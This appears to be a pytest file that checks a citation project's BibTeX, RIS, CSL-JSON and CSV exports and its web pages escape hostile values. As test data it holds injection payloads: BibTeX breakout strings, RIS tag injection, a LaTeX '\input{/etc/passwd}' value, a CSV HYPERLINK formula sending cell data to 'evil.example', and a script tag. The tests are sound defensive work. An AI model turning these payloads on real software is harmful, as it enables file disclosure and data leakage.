"""Hostile values in every export format: each is escaped for its format, whatever the loader
lets through (defence in depth). Sources and findings are built past validation on purpose."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import re
from pathlib import Path

import bibtexparser
import pytest
import rispy
from starlette.testclient import TestClient

from conftest import make_content
from sourcefirst.domain.kb import KnowledgeBase, load_knowledge_base
from sourcefirst.release.exports import bibtex, csl_json, findings_csv, ris
from sourcefirst.release.publish import build_site
from sourcefirst.schema.finding import Finding
from sourcefirst.schema.source import Identifier, Identifiers, Source, Verification
from sourcefirst.serve.server import create_app

CONTENT = Path(__file__).resolve().parent.parent / "content"
BREAKOUT = "x}, note = {pwned}}\n@misc{evil, title = {owned"
NEWLINES = "line one\nER  - \r\nTY  - JOUR\rTI  - injected\u2028x\x0bend"


@pytest.fixture(scope="module")
def real_kb() -> KnowledgeBase:
    return load_knowledge_base(CONTENT)[0]


def _ident(value: str) -> Identifier:
    # model_construct skips validation: the exports must be safe even for such a value
    return Identifier.model_construct(value=value, verification=Verification.SECONDARY)


@pytest.fixture(scope="module")
def hostile(real_kb: KnowledgeBase) -> Source:
    base = real_kb.sources["dolotov-2006-brainres"]
    ids = Identifiers.model_construct(
        doi=_ident("10.1016/" + BREAKOUT),
        pmid=_ident("1}" + NEWLINES),
        pmcid=_ident("PMC1\\" + NEWLINES),
        url=_ident("https://example.org/" + BREAKOUT),
    )
    return base.model_copy(
        update={
            "title": "Title " + BREAKOUT + NEWLINES + " 100% & #1 $x$ ~ ^ _ \\",
            "container_title": BREAKOUT,
            "volume": NEWLINES,
            "page": "54\nER  - ",
            "publisher": "\\input{/etc/passwd}" + BREAKOUT,
            "identifiers": ids,
            "unverified_fields": ["title\nER  - ", BREAKOUT],
            "language": "e}n",
        }
    )


def _braces_balance(text: str) -> bool:
    depth = 0
    for char in text:
        depth += {"{": 1, "}": -1}.get(char, 0)
        if depth < 0:
            return False
    return depth == 0


def test_bibtex_stays_one_entry_with_only_our_fields(hostile: Source) -> None:
    text = bibtex([hostile])
    assert text.startswith("@article{"), text
    assert "\n@" not in text, text
    assert "\\input" not in text.replace("\\textbackslash{}input", "")
    parsed = bibtexparser.loads(text)
    assert [e["ID"] for e in parsed.entries] == [hostile.id]
    entry = parsed.entries[0]
    assert "evil" not in "".join(entry)
    assert entry["note"].startswith("PMID verification")  # not the injected {pwned}
    for field, value in entry.items():
        assert _braces_balance(value), (field, value)
        assert "\n" not in value.strip(), (field, value)


def test_bibtex_identifiers_are_percent_encoded_not_latex_escaped(hostile: Source) -> None:
    entry = bibtexparser.loads(bibtex([hostile])).entries[0]
    assert entry["doi"].startswith("10.1016/x%7D,%20note%20=%20%7Bpwned%7D%7D%0A@misc")
    assert "{" not in entry["url"]
    assert "}" not in entry["url"]
    assert " " not in entry["url"]
    assert entry["language"] == "e\\textbraceright{}n"


def test_bibtex_name_containing_and_stays_one_author(real_kb: KnowledgeBase) -> None:
    base = real_kb.sources["dolotov-2006-brainres"]
    name = base.author[0].model_copy(update={"family": "Smith and Jones"})
    entry = bibtexparser.loads(bibtex([base.model_copy(update={"author": [name]})])).entries[0]
    assert entry["author"] == "{Smith and Jones, O. V.} and others"


def test_ris_values_never_start_a_tag_line(hostile: Source) -> None:
    text = ris([hostile])
    lines = text.strip("\n").split("\n")
    for line in lines:
        assert re.fullmatch(r"[A-Z][A-Z0-9]  - .*", line.rstrip("\r")), line
    tags = [line[:2] for line in lines]
    assert tags.count("TY") == 1
    assert tags.count("ER") == 1
    assert tags[-1] == "ER"
    assert "TI" in tags
    assert tags.count("TI") == 1
    assert "\x0b" not in text
    assert "\u2028" not in text
    assert "\r" not in text
    (record,) = rispy.loads(text)
    assert record["id"] == hostile.id


def test_csl_json_round_trips_hostile_values_exactly(hostile: Source) -> None:
    (item,) = json.loads(csl_json([hostile]))
    assert item["title"] == hostile.title
    assert item["DOI"] == "10.1016/" + BREAKOUT


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_prefixed(real_kb: KnowledgeBase, start: str) -> None:
    base = next(iter(real_kb.findings.values()))
    statement = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    tricky = base.model_copy(update={"id": "aaa-formula", "statement": statement})
    findings: dict[str, Finding] = {**real_kb.findings, tricky.id: tricky}
    rows = list(
        csv.DictReader(io.StringIO(findings_csv(dataclasses.replace(real_kb, findings=findings))))
    )
    assert rows[0]["id"] == "aaa-formula"
    assert rows[0]["statement"] == "'" + statement
    # ordinary cells are untouched
    assert all(not r["statement"].startswith("'") for r in rows[1:])


def test_hostile_title_in_content_is_escaped_in_the_built_exports_and_pages(
    tmp_path: Path,
) -> None:
    source = "sources/dolotov-2006-brainres.yaml"
    text = (CONTENT / source).read_text(encoding="utf-8")
    title = 'x}, note = {pwned}}\n@misc{evil, <script>alert(1)</script> =1+2 "q" \\relax'
    text = re.sub(r'^title: ".*"$', "title: " + json.dumps(title), text, count=1, flags=re.M)
    root = make_content(tmp_path, {source: text})
    out = tmp_path / "build"
    build_site(root, out)
    site = out / "current" / "site"
    bib = (site / "exports" / "references.bib").read_text(encoding="utf-8")
    entries = bibtexparser.loads(bib).entries
    assert "evil" not in [e["ID"] for e in entries]
    assert len(entries) == len(list((root / "sources").glob("*.yaml")))
    with TestClient(create_app(out)) as client:
        page = client.get("/sources/dolotov-2006-brainres/")
        assert page.status_code == 200
        assert "<script>alert(1)</script>" not in page.text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
        ris_text = client.get("/api/exports/references", params={"format": "ris"}).text
        assert ris_text.count("TY  - ") == len(entries)
